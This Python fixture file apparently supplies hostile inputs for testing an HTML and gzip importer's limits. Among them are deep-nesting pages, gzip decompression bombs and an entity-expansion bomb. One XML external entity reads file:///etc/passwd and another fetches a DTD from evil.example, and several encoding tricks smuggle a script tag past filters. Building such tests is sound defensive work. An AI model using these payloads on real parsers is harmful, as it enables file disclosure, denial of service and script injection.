"""Pages and files that are small to send and dear to read."""

import gzip
from collections.abc import Callable, Mapping

WORDS = "<P>One two three four five six.</P>"

# Each is either refused with this problem or imported; the empty text says that it is imported.
PAGES: Mapping[str, tuple[Callable[[], str], str]] = {
    "boxes in boxes": (lambda: "<div>" * 100_000 + WORDS, "the page nests more than 512"),
    "formatting in formatting": (lambda: "<b>" * 100_000 + WORDS, "the page nests more than 512"),
    "different formatting that is opened again": (
        lambda: "".join(f"<font size={n}>" for n in range(400)) + "<p>x" * 5_000,
        "the page has no paragraph, table or list",
    ),
    "tables in tables": (lambda: "<table><tr><td>" * 30_000 + WORDS, "the page nests more than"),
    "lists in lists": (lambda: "<ul><li>" * 50_000 + WORDS, "the page nests more than 512"),
    "formulas in formulas": (lambda: "<math><mtext>" * 50_000 + WORDS, "the page nests more than"),
    "drawings in drawings": (lambda: "<svg><desc>" * 50_000 + WORDS, "the page nests more than"),
    "templates in templates": (lambda: "<template>" * 50_000 + WORDS, "the page nests more than"),
    "as deep as is allowed": (lambda: WORDS + "<div>" * 500 + WORDS + "</div>" * 500, ""),
    "ends of nothing": (lambda: WORDS + "</p></br></table></b>" * 10_000, ""),
    "brackets": (lambda: WORDS + "<" * 100_000, ""),
    "ends of tags": (lambda: WORDS + "</" * 500_000, ""),
    "tags without an end": (lambda: WORDS + "<a b='" * 150_000, ""),
    "quotes without an end": (lambda: WORDS + "<a b=\"'" * 150_000, ""),
    "comments without an end": (lambda: WORDS + "<!--" * 250_000, ""),
    "comments in comments": (lambda: WORDS + "<!--" * 100_000 + "-->" * 20_000, ""),
    "scripts without an end": (lambda: WORDS + "<script>" * 100_000, ""),
    "frames without an end": (lambda: WORDS + "<iframe>" * 100_000, ""),
    "noscripts without an end": (lambda: WORDS + "<noscript>" * 100_000, ""),
    "noscripts with an end": (lambda: WORDS + "<noscript></noscript>" * 50_000, ""),
    "plain texts": (lambda: WORDS + "<plaintext>" * 400, ""),
    "entities": (lambda: WORDS + "<p>" + "&amp;" * 50_000, ""),
    "entities that are none": (lambda: WORDS + "<p>" + "&amplification" * 50_000, ""),
    "numbers of characters": (lambda: WORDS + "<p>" + "&#x1f600;" * 100_000, ""),
    "one number with a million digits": (lambda: WORDS + f"<p>&#{'9' * 1_000_000};x", ""),
    "attributes": (
        lambda: WORDS + "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x",
        "a tag has 100,000 attributes",
    ),
    "attributes without values": (
        lambda: WORDS + "<p " + "/".join(f'"{n}' for n in range(100_000)) + ">x",
        "a tag has 100,000 attributes",
    ),
    "attributes of an end": (
        lambda: WORDS + "</p " + " ".join(f"a{n}" for n in range(200_000)) + ">x",
        "",
    ),
    "an attribute of a million letters": (lambda: WORDS + f"<p title='{'x' * 1_000_000}'>x", ""),
    "a style of a million letters": (lambda: WORDS + f"<p style='{'a:b;' * 250_000}'>x", ""),
    "a style of comments": (lambda: WORDS + f"<p style='{'/*' * 200_000}'>x", ""),
    "a class of a million letters": (lambda: WORDS + f"<p class='{'a ' * 500_000}'>x", ""),
    "an address of a million spaces": (lambda: WORDS + f"<a href='{' ' * 1_000_000}x'>x</a>", ""),
    "an image of a million letters": (
        lambda: WORDS + f"<img src='data:image/png;base64,{'A' * 1_000_000}!'>",
        "",
    ),
    "an element of a million letters": (lambda: WORDS + f"<{'x' * 1_000_000}>x", ""),
    "a word of a million letters": (lambda: WORDS + "<p>" + "x" * 1_000_000, ""),
    "a million dots": (lambda: WORDS + "<p>" + "." * 1_000_000, ""),
    "a million spaces": (lambda: WORDS + "<p>x" + " " * 1_000_000 + "y", ""),
    "many cells": (lambda: "<table>" + "<tr><td>word" * 20_000 + "</table>" + WORDS, ""),
    "entities in a document type": (
        lambda: (
            '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>{WORDS}<p>&c;'
        ),
        "the page's document type declares entities",
    ),
    "an entity from elsewhere": (
        lambda: f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>{WORDS}<p>&x;',
        "the page's document type declares entities",
    ),
    "a parameter entity from elsewhere": (
        lambda: f'<!DOCTYPE html [<!ENTITY % x SYSTEM "//evil.example/x.dtd"> %x;]>{WORDS}',
        "the page's document type declares entities",
    ),
}

FILES: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "zeros": (lambda: gzip.compress(bytes(200 * 2**20)), "the gzip file unpacks to more than"),
    "one line": (
        lambda: gzip.compress(b'{"question_text": "' + b"x" * 2**26, 9),
        "the gzip file unpacks to more than",
    ),
    "empty lines": (
        lambda: gzip.compress(b"\n" * (17 * 2**20)),
        "the gzip file unpacks to more than",
    ),
    "a file in a file": (
        lambda: gzip.compress(gzip.compress(b"{}")),
        "byte 2 of the line (0x8b) is no UTF-8",
    ),
    "half a file": (lambda: gzip.compress(b'{"a": 1}\n' * 99)[:-9], ""),
    "brackets in brackets": (lambda: b"[" * 1_000_000, ""),
    "objects in objects": (lambda: b'{"a":' * 500_000, ""),
    "bytes that are too long for their character": (
        lambda: b'{"document_html": "\xc0\xbcscript\xc0\xbe"}',
        "",
    ),
    "another alphabet": (lambda: '{"a": "<script>"}'.encode("utf-16"), "this is a UTF-16 file"),
    "half a pair": (lambda: b'{"question_text": "\\ud800", "document_html": "x"}', ""),
}

PAGE_FILES: Mapping[str, bytes] = {
    "bytes that are too long for their character": b"<p>\xc0\xbcscript\xc0\xbeboom()</p>",
    "a quotation mark that eats the next byte": b'<p title="\xe0">x</p>',
    "two bytes for each letter": "<script>boom()</script><p>x</p>".encode("utf-16"),
    "a Japanese escape": b"<p>\x1b$B\xff</p>",
    "half of a pair": b"<p>\xed\xa0\x80</p>",
}
